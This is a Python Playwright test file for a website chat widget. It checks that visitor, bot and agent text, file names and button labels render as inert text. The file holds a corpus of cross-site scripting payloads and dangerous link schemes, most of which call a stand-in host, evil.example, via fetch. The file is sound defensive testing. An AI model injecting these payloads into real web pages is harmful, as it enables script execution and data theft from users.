"""Nobody's text is anything but text: visitor, bot, agent, owner, file names, buttons. S-11, S-12."""

import json
from typing import Any
from urllib.parse import urlsplit

from playwright.sync_api import Dialog, Page, Request, WebSocketRoute, expect

from tests.browser.widget import Widget
from tests.support.hub import HubProcess

EVIL = "evil.example"
CALL = "fetch('https://evil.example/'+(window.pwned=1))"
MARKUP = [
    f"<img src=x onerror={CALL}>",
    f"<script>{CALL}</script>",
    f'"><svg onload={CALL}>',
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<a href='javascript:{CALL}'>press</a>",
    f"<details open ontoggle={CALL}>",
    f"<math><mtext><style><img src onerror={CALL}></style></mtext></math>",
    f"<form action='javascript:{CALL}'><button autofocus onfocus={CALL}>",
    f"<template><img src=x onerror={CALL}></template>",
    f"&lt;img src=x onerror={CALL}&gt;",
    "<img src=https://evil.example/pixel>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
]
LINKS = [
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"\u0001javascript:{CALL}", "vbscript:x",
    f"data:text/html,<script>{CALL}</script>", "file:///etc/passwd", "blob:https://evil.example/1",
]  # fmt: skip
CORPUS = [
    *MARKUP,
    *LINKS,
    *(f"[press]({link})" for link in LINKS),
    *(f"**{markup}**" for markup in MARKUP),
    *(f"- {markup}\n- `{markup}`" for markup in MARKUP),
    *(f"[{markup}](https://shop.example/)" for markup in MARKUP),
    *(f"https://shop.example/{markup}" for markup in MARKUP),
    "{{7*7}} ${7*7} <%= 7*7 %>", "\u202egnp.exe", "__proto__", "]]>", "<!--",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
]  # fmt: skip


def message(seq: int, text: str) -> dict[str, Any]:
    """A bot's message with *text* in every field that shows."""
    file = {"id": "f", "name": text, "media_type": "image/png", "size": 1, "width": 1, "height": 1, "state": "ready"}
    return {
        "conversation": "c", "seq": seq, "prev": seq - 1, "rev": seq, "kind": "text", "sender": "bot",
        "author": {"id": "b", "name": text}, "client_id": None, "text": text, "chosen": None, "activity": None,
        "buttons": [{"title": text, "url": None}, {"title": text, "url": text}],
        "attachments": [{**file, "url": text}, {**file, "media_type": text, "url": text, "state": "failed"}],
        "state": "stored", "created_at": "2026-01-01T10:00:00.000Z", "removed": False,
    }  # fmt: skip


def ready(text: str) -> dict[str, Any]:
    who = {"id": "a", "name": text}
    activity = {"what": "claimed", "by": who, "to": None, "reason": text, "brief": None, "data": {}}
    messages = [message(seq, each) for seq, each in enumerate(CORPUS, 1)]
    last = {**message(len(CORPUS) + 1, ""), "kind": "activity", "sender": "system", "activity": activity}
    return {
        "token": "t", "contact": None, "messages": [*messages, last], "next": False, "rev": len(CORPUS) + 1,
        "conversation": {
            "id": "c", "status": "open", "agent": who, "queue_position": None, "rev": 1,
            "last_seq": len(CORPUS) + 1, "seen": 0, "rated": None,
        },
        "inbox": {"name": text, "color": text, "bot_name": text, "greeting": text, "starters": [text], "uploads": True},
    }  # fmt: skip


def test_nothing_anyone_says_runs_or_calls_out(visited: HubProcess, page: Page) -> None:
    calls: list[str] = []

    def dialog(opened: Dialog) -> None:
        calls.append(opened.message)
        opened.dismiss()

    def request(sent: Request) -> None:
        if urlsplit(sent.url).hostname == EVIL:
            calls.append(sent.url)

    page.on("dialog", dialog)
    page.on("request", request)
    page.route("https://shop.example/**", lambda route: route.abort())
    widget = Widget(page, visited.url)

    def hostile(route: WebSocketRoute, data: str) -> bool:
        if not data.startswith('42/visitor,["ready"'):
            return True
        route.send("42/visitor," + json.dumps(["ready", ready(MARKUP[0])]))
        return False

    widget.on_line(hostile)
    page.goto(visited.url + "/demo")
    widget.launcher.click()
    expect(widget.log.get_by_text("joined")).to_be_visible()
    expect(widget.log.locator("strong").first).to_be_visible()
    page.evaluate("document.querySelector('frontdesk-widget').shadowRoot.querySelector('.log').scrollTo(0, 0)")
    page.evaluate("new Promise(done => requestIdleCallback(done))")
    assert calls == []
    assert page.evaluate("window.pwned") is None
    inside = widget.panel.locator("script, iframe, style, link, form:not(.composer), template, details, math")
    assert inside.count() == 0
    hrefs: list[str] = widget.panel.locator("a").evaluate_all("links => links.map(link => link.href + ' ' + link.rel)")
    assert hrefs, "safe links are links"
    for href in hrefs:
        assert href.startswith(("https://", "http://", "mailto:", "tel:")), href
        assert "noopener" in href
    for image in widget.panel.locator("img").evaluate_all("images => images.map(image => image.src)"):
        assert image.startswith((visited.url, "https://shop.example/"))


def test_what_the_visitor_types_is_shown_as_typed(visited: HubProcess, page: Page) -> None:
    widget = Widget(page, visited.url).open()
    for text in MARKUP[:4]:
        widget.say(text)
    expect(widget.own).to_have_text(MARKUP[:4])
    expect(widget.theirs.first).to_be_visible()
    page.reload()
    expect(widget.own).to_have_text(MARKUP[:4])
    assert page.evaluate("window.pwned") is None
